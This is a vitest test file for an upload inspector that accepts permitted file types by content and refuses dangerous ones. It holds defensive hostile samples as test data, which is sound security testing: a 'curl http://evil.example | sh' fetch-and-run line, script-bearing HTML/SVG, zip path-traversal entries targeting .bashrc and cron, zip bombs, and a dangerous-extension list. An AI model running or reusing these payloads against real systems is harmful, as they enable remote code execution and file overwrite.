import { ProblemCode } from '@lesplein/contracts/common';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { DomainError } from '../../../core/errors/domain-error.js';
import {
  compoundFile,
  epub,
  executables,
  fixtureDir,
  gif,
  jpegWithExif,
  markEncrypted,
  media,
  odf,
  ooxml,
  pdfWithMetadata,
  png,
  webp,
  zipBomb,
  zipOf,
  zipWithEntries,
  zipWithRawName,
} from '../../../../test/storage/upload-fixtures.js';
import { ALLOWED_TYPES, DANGEROUS_EXTENSIONS } from './allowed-types.js';
import { inspectUpload } from './inspect-upload.js';

const MB = 1024 * 1024;
let fixtures: Awaited<ReturnType<typeof fixtureDir>>;
beforeAll(async () => {
  fixtures = await fixtureDir();
});
afterAll(() => fixtures.remove());

async function inspect(declaredName: string, bytes: Buffer | string, maxBytes = 100 * MB) {
  return inspectUpload({ path: await fixtures.file('upload', bytes), declaredName, maxBytes });
}

/** The DomainError an inspection throws (fails the test when it resolves). */
async function refusal(declaredName: string, bytes: Buffer | string, maxBytes?: number): Promise<DomainError> {
  const error = await inspect(declaredName, bytes, maxBytes).then(
    (result) => {
      throw new Error(`expected a refusal, got ${JSON.stringify(result)}`);
    },
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(DomainError);
  const domain = error as DomainError;
  expect(domain.extra.errors?.[0]?.path).toBe('file');
  expect(domain.extra.errors?.[0]?.message).toMatch(/ \/ /); // Dutch / English
  return domain;
}

describe('inspectUpload accepts the allowed types by content', () => {
  const cases: [string, keyof typeof ALLOWED_TYPES, () => Promise<Buffer> | Buffer | string][] = [
    ['les.pdf', 'pdf', pdfWithMetadata],
    ['les.docx', 'docx', () => ooxml('docx')],
    ['cijfers.xlsx', 'xlsx', () => ooxml('xlsx')],
    ['dia.pptx', 'pptx', () => ooxml('pptx')],
    ['les.odt', 'odt', () => odf('odt')],
    ['cijfers.ods', 'ods', () => odf('ods')],
    ['dia.odp', 'odp', () => odf('odp')],
    ['oud.doc', 'doc', () => compoundFile([{ name: 'WordDocument' }, { name: '1Table' }])],
    ['oud.xls', 'xls', () => compoundFile([{ name: 'Workbook' }], '00020820-0000-0000-c000-000000000046')],
    ['oud.ppt', 'ppt', () => compoundFile([{ name: 'PowerPoint Document' }, { name: 'Current User' }], '64818d10-4f9b-11cf-86ea-00aa00b929e8')],
    ['brief.rtf', 'rtf', () => '{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}} Hallo {\\pict\\pngblip 89504e47}}'],
    ['boek.epub', 'epub', epub],
    ['notities.txt', 'txt', () => 'Breuken: ½ + ¼ = ¾ — één oefening per dag.\n'],
    ['punten.csv', 'csv', () => 'naam;punten\nAn;8\nJonas;7\n'],
    ['README.md', 'md', () => '# Breuken\n\n<details>uitleg</details>\n'],
    ['oefening.py', 'txt', () => 'print("hallo")\n'],
    ['geen-extensie', 'txt', () => 'gewone tekst\n'],
    ['foto.jpeg', 'jpg', jpegWithExif],
    ['schema.png', 'png', png],
    ['animatie.gif', 'gif', gif],
    ['foto.webp', 'webp', webp],
    ['lied.mp3', 'mp3', media.mp3],
    ['lied-id3.mp3', 'mp3', media.mp3WithId3],
    ['lied.ogg', 'ogg', () => media.ogg('vorbis')],
    ['spraak.opus', 'ogg', () => media.ogg('opus')],
    ['geluid.wav', 'wav', media.wav],
    ['lied.m4a', 'm4a', () => media.isoMedia('M4A ')],
    ['lied.aac', 'aac', media.aac],
    ['lied.flac', 'flac', media.flac],
    ['film.mp4', 'mp4', () => media.isoMedia('isom')],
    ['film.webm', 'webm', media.webm],
    ['bundel.zip', 'zip', () => zipOf({ 'a.txt': 'a', 'b/c.txt': 'c' })],
    ['meetkunde.ggb', 'ggb', () => zipOf({ 'geogebra.xml': '<geogebra/>', 'geogebra_thumbnail.png': 'x' })],
    ['spel.sb3', 'sb3', () => zipOf({ 'project.json': '{"targets":[]}' })],
  ];

  it.each(cases)('%s is recognised as %s', async (name, id, make) => {
    const bytes = await make();
    const result = await inspect(name, bytes);
    const type = ALLOWED_TYPES[id];
    expect(result).toEqual({ mimeType: type.mimeType, extension: type.extension, previewKind: type.previewKind, size: Buffer.byteLength(bytes) });
  });

  it('gives the preview kinds the web client uses', async () => {
    expect((await inspect('a.jpg', await jpegWithExif())).previewKind).toBe('image');
    expect((await inspect('a.pdf', await pdfWithMetadata())).previewKind).toBe('pdf');
    expect((await inspect('a.mp4', media.isoMedia('isom'))).previewKind).toBe('video');
    expect((await inspect('a.mp3', media.mp3())).previewKind).toBe('audio');
    expect((await inspect('a.docx', await ooxml('docx'))).previewKind).toBe('none');
  });

  it('trusts the content, not a missing or unknown extension', async () => {
    expect((await inspect('scan', await pdfWithMetadata())).mimeType).toBe('application/pdf');
    expect((await inspect('foto.heic-export', await png())).mimeType).toBe('image/png');
    expect((await inspect('FOTO.JPG', await jpegWithExif())).mimeType).toBe('image/jpeg');
  });
});

describe('inspectUpload refuses', () => {
  it('an empty file (400 file_empty)', async () => {
    const error = await refusal('leeg.txt', '');
    expect([error.status, error.code]).toEqual([400, ProblemCode.fileEmpty]);
  });

  it('a file over the limit (413 file_too_large)', async () => {
    const error = await refusal('groot.txt', 'x'.repeat(2000), 1000);
    expect([error.status, error.code]).toEqual([413, ProblemCode.fileTooLarge]);
  });

  it.each([
    ['Windows executable (MZ/PE)', 'setup.pdf', executables.pe],
    ['Windows executable with no extension', 'programma', executables.pe],
    ['ELF binary', 'tool.txt', executables.elf],
    ['Mach-O binary', 'app.zip', executables.macho],
    ['Windows Installer (MSI) in a compound file', 'oud.doc', () => compoundFile([{ name: 'WordDocument' }], '000c1084-0000-0000-c000-000000000046')],
    ['other compound files (Outlook message)', 'mail.doc', () => compoundFile([{ name: '__properties_version1.0' }], '00020d0b-0000-0000-c000-000000000046')],
    ['Word 97 with macros', 'macro.doc', () => compoundFile([{ name: 'WordDocument' }, { name: 'Macros', storage: true }])],
    ['Excel 97 with macros', 'macro.xls', () => compoundFile([{ name: 'Workbook' }, { name: '_VBA_PROJECT_CUR', storage: true }])],
    ['macro-enabled Word (docm) named .docx', 'les.docx', () => ooxml('docm')],
    ['Java archive', 'spel.zip', () => zipOf({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: Evil\n', 'Evil.class': 'x' })],
    ['shell script with #!', 'les.txt', () => '#!/bin/sh\ncurl http://evil.example | sh\n'],
    ['Python script with #!', 'oefening.py', () => '#!/usr/bin/env python3\nprint(1)\n'],
    ['HTML', 'les.txt', () => '<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'],
    ['HTML fragment after whitespace and a BOM', 'notities.md', () => '\uFEFF  \n<script>alert(1)</script>'],
    ['SVG', 'tekening.txt', () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ['SVG with an XML declaration', 'tekening', () => '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['text in another encoding than UTF-8', 'notities.txt', () => Buffer.from('caf\xe9 cr\xe8me', 'latin1')],
    ['UTF-16 text', 'notities.txt', () => Buffer.from('\uFEFFhallo', 'utf16le')],
    ['unknown binary data', 'data.dat', () => Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0xfe, 0x00, 0x10])],
    ['RTF with an embedded OLE object', 'brief.rtf', () => '{\\rtf1 {\\object\\objemb {\\*\\objdata 0105000002000000}}}'],
    ['a TIFF (a real image, but not on the list)', 'scan.tif', () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } }).tiff().toBuffer()],
  ])('%s (415 file_type_refused)', async (_label, name, make) => {
    const error = await refusal(name, await make());
    expect([error.status, error.code]).toEqual([415, ProblemCode.fileTypeRefused]);
  });

  it.each(['les.html', 'les.htm', 'tekening.svg', 'les.bat', 'les.ps1', 'les.vbs', 'les.js', 'les.sh', 'les.exe', 'les.msi', 'les.jar', 'les.lnk', 'les.hta', 'les.docm'])(
    'a harmless text file named %s, because of its extension (415)',
    async (name) => {
      expect(DANGEROUS_EXTENSIONS.has(name.split('.').pop()!)).toBe(true);
      const error = await refusal(name, 'echo hallo\n');
      expect([error.status, error.code]).toEqual([415, ProblemCode.fileTypeRefused]);
    },
  );

  it.each([
    ['a PDF named foto.jpg', 'foto.jpg', pdfWithMetadata],
    ['an xlsx named .docx', 'les.docx', () => ooxml('xlsx')],
    ['a docx named .pdf', 'les.pdf', () => ooxml('docx')],
    ['a PNG named .jpg', 'foto.jpg', png],
    ['text named .pdf', 'les.pdf', () => 'gewone tekst'],
    ['a ZIP named .ggb without geogebra.xml', 'meetkunde.ggb', () => zipOf({ 'a.txt': 'a' })],
    ['a ZIP named .sb3 without project.json', 'spel.sb3', () => zipOf({ 'a.txt': 'a' })],
    ['an Excel 97 file named .doc', 'oud.doc', () => compoundFile([{ name: 'Workbook' }])],
  ])('%s (400 file_type_mismatch)', async (_label, name, make) => {
    const error = await refusal(name, await make());
    expect([error.status, error.code]).toEqual([400, ProblemCode.fileTypeMismatch]);
  });

  it.each([
    ['a truncated JPEG', 'foto.jpg', async () => (await jpegWithExif()).subarray(0, 1500)],
    ['a JPEG with garbage after the header', 'foto.jpg', async () => Buffer.concat([(await jpegWithExif()).subarray(0, 700), Buffer.alloc(3000, 0x41)])],
    ['a PNG with a damaged body', 'schema.png', async () => {
      const bytes = Buffer.from(await png());
      bytes.fill(0x41, 60, bytes.length - 20);
      return bytes;
    }],
    ['a PDF that is only a header', 'les.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2000, 0x41)])],
    ['a truncated compound file', 'oud.doc', () => compoundFile([{ name: 'WordDocument' }]).subarray(0, 700)],
  ])('%s (400 file_corrupt)', async (_label, name, make) => {
    const error = await refusal(name, await make());
    expect([error.status, error.code]).toEqual([400, ProblemCode.fileCorrupt]);
  });

  it.each([
    ['a zip bomb (20 MB of zeros packed 1000:1)', 'bundel.zip', () => zipBomb(20)],
    ['a docx hiding a zip bomb', 'les.docx', async () => {
      const JSZip = (await import('jszip')).default;
      const zip = await JSZip.loadAsync(await ooxml('docx'));
      zip.file('word/media/big.bin', Buffer.alloc(12 * MB));
      return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
    }],
    ['more than 2000 entries', 'bundel.zip', () => zipWithEntries(2001)],
    ['an entry with ..', 'bundel.zip', () => zipWithRawName('../../home/leraar/.bashrc')],
    ['an entry with .. and backslashes', 'bundel.zip', () => zipWithRawName('..\\..\\Windows\\evil.dll')],
    ['an absolute entry path', 'bundel.zip', () => zipWithRawName('/etc/cron.d/evil')],
    ['a drive-letter path', 'bundel.zip', () => zipWithRawName('C:/Windows/evil.dll')],
    ['encrypted entries', 'bundel.zip', async () => markEncrypted(await zipOf({ 'geheim.txt': 'x' }))],
  ])('%s (400 archive_refused)', async (_label, name, make) => {
    const error = await refusal(name, await make());
    expect([error.status, error.code]).toEqual([400, ProblemCode.archiveRefused]);
  });

  it('accepts 2000 entries, large well-compressed data under the ratio, and nested archives unchecked', async () => {
    expect((await inspect('bundel.zip', await zipWithEntries(2000))).mimeType).toBe('application/zip');
    expect((await inspect('bundel.zip', await zipBomb(9))).mimeType).toBe('application/zip'); // 9 MB: under the 10 MB ratio threshold
    const inner = await zipBomb(20);
    expect((await inspect('bundel.zip', await zipOf({ 'inner.zip': inner }))).mimeType).toBe('application/zip');
  });
});
